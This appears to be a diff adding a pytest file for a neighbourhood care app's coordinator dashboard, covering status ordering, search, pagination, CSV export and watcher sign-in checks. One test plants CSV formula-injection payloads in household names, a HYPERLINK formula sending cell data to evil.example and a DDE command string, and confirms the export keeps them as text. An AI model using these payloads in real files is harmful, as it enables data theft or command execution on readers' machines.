@@ -1,0 +1,179 @@
+# SPDX-License-Identifier: MIT
+"""The coordinator's overview for many homes (issue 13): one status per home in the order a
+coordinator acts on them, counts that filter, a search, pages; the weekly list of watchers who
+never signed in or never confirmed their mail; the CSV localized and formula-safe.
+
+On the sample pilot (sim/server/web/sample.py), SQLite and PostgreSQL (tests/test_dashboard.py's
+fixtures), through the real app in-process.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+from sim.server import households as hh
+from sim.server import status
+from sim.server.web import views
+from tests.test_dashboard import NOW_MS, Site, csrf, report_rows, site, template_db  # noqa: F401
+
+
+def _homes(page: str) -> list[tuple[str, str]]:
+    """(household, state) of each row of an overview page, in order."""
+    return re.findall(r'data-household="([^"]+)" data-state="([^"]+)"', page)
+
+
+def _count(page: str, state: str) -> int:
+    m = re.search(rf'data-count="{state}"[^>]*>.*?<strong>(\d+)</strong>', page, re.S)
+    assert m, state
+    return int(m.group(1))
+
+
+def test_one_status_per_home_most_urgent_first() -> None:
+    assert status.state_of(["open", "claimed"], True, True, True) == "unanswered"
+    assert status.state_of(["claimed"], True, True, True) == "checking"
+    assert status.state_of([], True, False, True) == "late"  # a silent bulb while away
+    assert status.state_of([], False, True, False) == "late"
+    assert status.state_of([], False, False, True) == "paused"
+    assert status.state_of([], False, False, False) == "well"
+    assert status.late_flag(3, 10) and not status.late_flag(2, 10) and not status.late_flag(0, 0)
+
+
+def test_overview_puts_the_unanswered_alert_first_and_a_late_bulb_never_shows_well(
+        site: Site) -> None:
+    coord = site.sign_in(None)
+    page = coord.get("/coordinator").text
+    homes = _homes(page)
+    assert homes[0] == ("sato", "unanswered")
+    # suzuki: its bulb reports late (16 of 50 in the week) and has a poor delivery notice;
+    # yamada: its bulb was never heard. Each shows one status, and it is not "well"
+    assert dict(homes) == {"sato": "unanswered", "suzuki": "late", "yamada": "late",
+                           "tanaka": "paused"}
+    suzuki = page[page.index('data-household="suzuki"'):]
+    suzuki = suzuki[:suzuki.index("</li>")]
+    assert suzuki.count("data-status=") == 1 and 'data-status="well"' not in suzuki
+    assert "▲" in suzuki and "-100 dBm" in suzuki  # often late, and the weak signal
+    assert [_count(page, s) for s in ("all", *status.STATES)] == [4, 1, 0, 2, 1, 0]
+
+
+def test_a_count_filters_and_a_claim_moves_the_home_at_once(site: Site) -> None:
+    coord = site.sign_in(None)
+    page = coord.get("/coordinator").text
+    href = re.search(r'data-count="late" href="([^"]+)"', page).group(1)
+    assert [h for h, _ in _homes(coord.get(href.replace("&amp;", "&")).text)] == [
+        "suzuki", "yamada"]
+    aiko = site.sign_in("Aiko")
+    r = aiko.post(f"/h/sato/alerts/{site.alert}/claim", data={"csrf": csrf(aiko, "/h/sato")},
+                  follow_redirects=False)
+    assert r.status_code == 303
+    page = coord.get("/coordinator", params={"state": "checking"}).text
+    assert _homes(page) == [("sato", "checking")]
+    assert "Aiko" in page  # who is going
+    assert coord.get("/coordinator", params={"state": "unanswered"}).text.count(
+        "data-household=") == 0
+
+
+def test_search_finds_homes_by_id_name_and_watcher_and_escapes_wildcards(site: Site) -> None:
+    coord = site.sign_in(None)
+
+    def found(q: str) -> list[str]:
+        return sorted(h for h, _ in _homes(coord.get("/coordinator", params={"q": q}).text))
+
+    assert found("tanaka") == ["tanaka"]
+    assert found("鈴木") == ["suzuki"]  # a fragment of the name (where the address goes)
+    assert found("aiko") == ["sato", "suzuki"]  # a watcher's name, any case
+    assert found("%") == [] and found("_") == []  # wildcards are plain characters
+    page = coord.get("/coordinator", params={"q": "zzz-nobody"}).text
+    assert 'id="no-match"' in page and _count(page, "all") == 0
+
+
+def test_pages_of_twenty_keep_the_filter_and_search(site: Site) -> None:
+    with site.db.tx() as c:
+        for i in range(45):
+            hh.add_household(c, NOW_MS, f"extra-{i:02d}", name=f"Kita {i} (Koromogawa 1-{i})")
+    coord = site.sign_in(None)
+    first = coord.get("/coordinator").text
+    assert len(_homes(first)) == 20 and _homes(first)[0][0] == "sato"
+    assert _count(first, "well") == 45
+    nxt = re.search(r'rel="next" href="([^"]+)"', first).group(1).replace("&amp;", "&")
+    assert nxt == "/coordinator?page=2"
+    third = coord.get("/coordinator", params={"state": "well", "q": "koromogawa",
+                                              "page": 3}).text
+    assert [h for h, _ in _homes(third)] == [f"extra-{i:02d}" for i in range(40, 45)]
+    prev = re.search(r'rel="prev" href="([^"]+)"', third).group(1).replace("&amp;", "&")
+    assert prev == "/coordinator?state=well&q=koromogawa&page=2"
+    assert 'rel="next"' not in third
+    for bad in ("0", "-3", "x", "99999999999"):  # never an error page
+        assert coord.get("/coordinator", params={"page": bad, "state": "nope"}
+                         ).status_code == 200
+
+
+def test_csv_headers_follow_the_reader_and_a_formula_name_stays_text(site: Site) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    with site.db.tx() as c:
+        c.execute("UPDATE households SET name = ? WHERE id = 'tanaka'", (hostile,))
+        c.execute("UPDATE households SET name = ? WHERE id = 'yamada'", ("\t+cmd|' /C calc'!A0",))
+    coord = site.sign_in(None)
+    ja = coord.get("/coordinator/report.csv").content.decode("utf-8-sig")
+    header = next(csv.reader(io.StringIO(ja)))
+    assert header[:3] == ["世帯番号", "名前", "いまの様子"] and "助けが必要だった" in header
+    coord.get("/lang", params={"to": "en", "next": "/coordinator"})
+    r = coord.get("/coordinator/report.csv")
+    assert next(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))[:2] == [
+        "household", "name"]
+    rows = report_rows(r.content)
+    assert rows["tanaka"]["name"] == "'" + hostile  # shown as text, never run
+    assert rows["yamada"]["name"].startswith("'\t")
+    for row in rows.values():
+        assert not any(v.startswith(views.FORMULA_START) for k, v in row.items()
+                       if k not in ("signal_dbm",))
+    assert rows["suzuki"]["status"] == "Bulb reports late or not at all"
+    assert (rows["suzuki"]["signal_dbm"], rows["suzuki"]["signal"]) == ("-100", "fair")
+    assert (rows["suzuki"]["late_7d"], rows["suzuki"]["visits_7d"]) == ("16", "50")
+    # outcomes: suzuki's past alert was a false alarm; the split adds up over households
+    assert (rows["suzuki"]["needed_help"], rows["suzuki"]["fine"],
+            rows["suzuki"]["false_alerts"]) == ("0", "0", "1")
+    for k in ("needed_help", "fine", "false_alerts"):
+        assert int(rows["total"][k]) == sum(int(x[k]) for h, x in rows.items() if h != "total")
+
+
+def test_weekly_check_lists_watchers_until_they_sign_in_by_mail(site: Site) -> None:
+    coord = site.sign_in(None)
+
+    def listed() -> set[str]:
+        page = coord.get("/coordinator/watchers").text
+        return set(re.findall(r'data-watcher="([^"]+)"', page))
+
+    def checks(wid: str) -> tuple[str, str]:
+        """(signed-in, mail) parts of the watcher's line."""
+        page = coord.get("/coordinator/watchers").text
+        row = page[page.index(f'data-watcher="{wid}"'):]
+        row = row[:row.index("</li>")]
+        i = row.index('data-check="mail"')
+        return row[row.index('data-check="signed-in"'):i], row[i:]
+
+    aiko = {site.w[("sato", "Aiko")], site.w[("suzuki", "Aiko")]}
+    before = listed()
+    assert aiko <= before
+    assert all("▲" in part for part in checks(site.w[("sato", "Aiko")]))
+    site.sign_in("Aiko")  # a link the coordinator handed over: signed in, mail not shown to work
+    signed, mail = checks(site.w[("suzuki", "Aiko")])  # her other household: the same person
+    assert "▲" not in signed and "▲" in mail
+    # she asks for a link on the sign-in page: it goes by e-mail, and she uses it
+    cl = site.client()
+    with site.db.read() as c:
+        email = hh.watcher(c, site.w[("sato", "Aiko")]).email
+    cl.post("/signin", data={"csrf": csrf(cl), "email": email})
+    with site.db.read() as c:
+        (payload,) = c.one("SELECT payload FROM outbox WHERE kind = 'signin' AND "
+                           "channel = 'email' ORDER BY created_at DESC LIMIT 1")
+    token = re.search(r"/in/([A-Za-z0-9_-]+)", payload).group(1)
+    r = cl.post(f"/in/{token}", data={"csrf": csrf(cl, f"/in/{token}")},
+                follow_redirects=False)
+    assert r.status_code == 303
+    after = listed()
+    assert not aiko & after  # both of her households: one person, one address
+    assert after == before - aiko
+    with site.db.read() as c:
+        assert set(views.mail_confirmed_at(c, [hh.watcher(c, w) for w in aiko])) == aiko
